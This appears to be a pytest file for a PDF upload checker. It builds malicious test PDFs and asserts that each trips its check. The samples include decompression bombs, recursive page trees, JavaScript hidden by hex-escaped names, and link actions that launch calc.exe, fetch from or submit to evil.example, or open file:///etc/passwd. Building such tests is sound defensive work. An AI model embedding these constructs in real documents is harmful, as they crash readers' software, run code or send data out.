"""PDFs made to exhaust, to run or to hide something."""

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from delivery.checks.findings import Format, Verdict
from tests.rules.checks import samples
from tests.rules.checks.conftest import Checks, failed, finding_of

PROGRAM = Dictionary(S=Name.Launch, F=String("calc.exe"))
ELSEWHERE = Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\x.pdf"))
SENDS = Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))


def script_after_printing(made: pikepdf.Pdf) -> None:
    made.Root.AA = Dictionary(DP=samples.script())


def script_by_name(made: pikepdf.Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), samples.script()])))


def form_with_its_own_program(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=String("<xdp/>"))


def disguised_script() -> bytes:
    return samples.written(
        [samples.ROOT[:-2] + b"/OpenAction <</S /Jav#61Script /J#53 (x)>> >>", samples.PAGES, samples.PAGE]
    )


def locked(user: str) -> bytes:
    return samples.pdf(encryption=pikepdf.Encryption(owner="owner", user=user))


KILLERS = {
    "10,000 pages": (lambda: samples.many_pages(10_000), "pdf-pages"),
    "501 pages": (lambda: samples.many_pages(501), "pdf-pages"),
    "no page": (lambda: samples.many_pages(0), "pdf-pages"),
    "page tree 10,000 levels deep": (lambda: samples.deep_page_tree(10_000), "pdf-opens"),
    "page tree in a circle": (samples.page_tree_in_a_circle, "pdf-opens"),
    "cross-reference loop": (samples.loop_in_the_table, "pdf-opens"),
    "cut in half": (lambda: samples.pdf()[: len(samples.pdf()) // 2], "pdf-opens"),
    "end cut off": (lambda: samples.pdf()[:-8], "pdf-opens"),
    "only a beginning": (lambda: b"%PDF-1.7\n%%EOF", "pdf-opens"),
    "giant picture": (lambda: samples.pdf(samples.giant_picture), "pdf-unpacked"),
    "220 MB of blanks": (lambda: samples.pdf(samples.huge_stream(1)), "pdf-unpacked"),
    "220 MB of blanks, packed three times": (lambda: samples.pdf(samples.huge_stream(3)), "pdf-unpacked"),
    "password": (lambda: locked("user"), "pdf-encrypted"),
    "restricted": (lambda: locked(""), "pdf-encrypted"),
    "script at opening": (lambda: samples.pdf(samples.at_opening(samples.script())), "pdf-active-content"),
    "script after printing": (lambda: samples.pdf(script_after_printing), "pdf-active-content"),
    "script by name": (lambda: samples.pdf(script_by_name), "pdf-active-content"),
    "script in disguise": (disguised_script, "pdf-active-content"),
    "program on a link": (lambda: samples.pdf(samples.on_a_link(PROGRAM)), "pdf-active-content"),
    "other file on a link": (lambda: samples.pdf(samples.on_a_link(ELSEWHERE)), "pdf-active-content"),
    "form that sends": (lambda: samples.pdf(samples.on_a_link(SENDS)), "pdf-active-content"),
    "form with its own program": (lambda: samples.pdf(form_with_its_own_program), "pdf-active-content"),
    "file inside": (lambda: samples.pdf(samples.carrying_a_file), "pdf-active-content"),
    "address of a local file": (
        lambda: samples.pdf(samples.on_a_link(Dictionary(S=Name.URI, URI=String("file:///etc/passwd")))),
        "pdf-active-content",
    ),
    "arrays 400 levels deep": (lambda: samples.deep_object(400), "pdf-active-content"),
    "arrays 5,000 levels deep": (lambda: samples.deep_object(5000), "pdf-pages"),
}


@pytest.mark.parametrize("case", KILLERS)
def test_a_killer_fails_its_own_check_and_no_other(checks: Checks, case: str) -> None:
    build, check = KILLERS[case]

    report = checks("a.pdf", build(), Format.PDF)

    assert failed(report) == {check}
    assert report.verdict is Verdict.FAILED


def test_a_bomb_is_never_drawn(checks: Checks) -> None:
    report = checks("a.pdf", samples.pdf(samples.huge_stream(1)), Format.PDF)

    preview = finding_of(report, "preview")
    assert (preview.verdict, preview.evidence) == (Verdict.NOT_CHECKED, {"cause": "blocked", "by": "pdf-unpacked"})
    assert (report.preview_png, report.page_count) == (None, 1)


def test_five_hundred_pages_are_not_too_many(checks: Checks) -> None:
    report = checks("a.pdf", samples.many_pages(500), Format.PDF)

    assert (failed(report), report.page_count) == (set(), 500)


def test_pdf_a_is_only_ever_called_a_claim(checks: Checks) -> None:
    without = finding_of(checks("a.pdf", samples.pdf(), Format.PDF_A), "pdf-a-claim")
    claimed = finding_of(checks("a.pdf", samples.pdf(samples.claiming("2", "U")), Format.PDF_A), "pdf-a-claim")

    assert (without.verdict, without.evidence) == (Verdict.FAILED, {"claimed": ""})
    assert (claimed.verdict, claimed.evidence) == (Verdict.PASSED, {"claimed": "2U"})
    assert "claimed, not validated" in claimed.en
    assert "未经验证" in claimed.zh


def test_a_pdf_a_3_may_carry_its_source_data(checks: Checks) -> None:
    def change(made: pikepdf.Pdf) -> None:
        samples.carrying_a_file(made)
        samples.claiming("3", "B")(made)

    finding = finding_of(checks("a.pdf", samples.pdf(change), Format.PDF_A), "pdf-active-content")

    assert (finding.verdict, finding.evidence) == (Verdict.WARNED, {"found": "embedded file"})


def test_an_ordinary_web_link_warns(checks: Checks) -> None:
    link = Dictionary(S=Name.URI, URI=String("https://gears.example"))

    finding = finding_of(checks("a.pdf", samples.pdf(samples.on_a_link(link))), "pdf-active-content")

    assert (finding.verdict, finding.evidence) == (Verdict.WARNED, {"found": "link"})


def test_a_document_that_opens_at_its_first_page_passes(checks: Checks) -> None:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])

    assert checks("a.pdf", samples.pdf(change)).verdict is Verdict.PASSED
